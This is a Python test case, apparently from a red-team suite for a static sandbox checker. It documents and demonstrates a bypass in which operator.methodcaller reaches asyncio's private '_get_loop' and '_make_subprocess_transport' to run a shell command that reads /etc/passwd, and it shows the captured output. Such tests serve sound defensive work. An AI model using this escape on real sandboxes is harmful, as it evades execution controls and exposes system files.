# expect: reject attribute
# verified: reaches its goal under plain python3 (3.11) in a temp dir (third static red team, ok_11_methodcaller_private_loop_subprocess)
# Mechanism: private-read rule not applied to operator.methodcaller/attrgetter literal 
#   names: methodcaller('_get_loop') on asyncio.Lock gives the event loop; 
#   methodcaller('_make_subprocess_transport', ...) runs a shell
# Goal reached: ran a process (a shell) that read /etc/passwd
# Checker: build/safe-exec-check --rules rules FILE -> exit 0 (accepted)
# Output seen under python3 (3.11.7), run in a throw-away temp dir:
#   | root:x:0:0:root:/root:/bin/bash
#   | daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
#   | bin:x:2:2:bin:/bin:/usr/sbin/nologin
# operator.attrgetter / methodcaller are "literal-names": each dotted part is judged as
# an attribute read -- but only by the dunder/attribute lists, never by the
# private-read rule. attrgetter("_get_loop") on an asyncio.Lock and
# methodcaller("_make_subprocess_transport", ...) on the loop run a shell command.
import asyncio
import operator


class Proto:
    def connection_made(self, transport):
        pass

    def pipe_data_received(self, fd, data):
        print("child:", data)

    def pipe_connection_lost(self, fd, exc):
        pass

    def process_exited(self):
        pass

    def connection_lost(self, exc):
        pass


async def main():
    loop = operator.methodcaller("_get_loop")(asyncio.Lock())
    spawn = operator.methodcaller("_make_subprocess_transport", Proto(),
                                  "cat /etc/passwd | head -3", True, None, None, None, 0)
    await spawn(loop)
    await asyncio.sleep(0.5)


asyncio.run(main())
